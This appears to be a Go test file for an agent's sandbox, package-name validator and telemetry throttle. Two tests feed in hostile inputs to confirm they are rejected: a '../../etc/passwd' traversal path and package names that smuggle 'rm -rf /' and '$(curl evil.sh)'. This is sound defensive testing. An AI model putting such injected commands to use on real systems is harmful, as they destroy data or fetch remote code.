package agent

import (
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestSandboxResolvePathRejectsEscape(t *testing.T) {
	sb, err := NewSandbox(t.TempDir())
	require.NoError(t, err)

	_, err = sb.ResolvePath("ok/sub/file.txt")
	assert.NoError(t, err)

	_, err = sb.ResolvePath("../../etc/passwd")
	assert.Error(t, err)
}

func TestValidatePackageNameAllowList(t *testing.T) {
	assert.NoError(t, ValidatePackageName("requests==2.31.0"))
	assert.NoError(t, ValidatePackageName("pandas>=1.5"))
	assert.Error(t, ValidatePackageName("requests; rm -rf /"))
	assert.Error(t, ValidatePackageName("$(curl evil.sh)"))
}

func TestTelemetryThrottleCoalescesNonTerminal(t *testing.T) {
	th := NewTelemetryThrottle(time.Hour) // window wide enough it never refires during the test
	send, _ := th.Offer(StepTelemetry{NodeID: "A", Status: "Running", RecordsOut: 1})
	assert.True(t, send, "first update for a node should be admitted immediately")

	send, _ = th.Offer(StepTelemetry{NodeID: "A", Status: "Running", RecordsOut: 2})
	assert.False(t, send, "second rapid non-terminal update should be coalesced")

	send, out := th.Offer(StepTelemetry{NodeID: "A", Status: "Success", RecordsOut: 3})
	assert.True(t, send, "terminal updates are always sent")
	assert.Equal(t, "Success", out.Status)

	pending := th.FlushPending()
	assert.Empty(t, pending, "terminal update must clear any coalesced pending update")
}
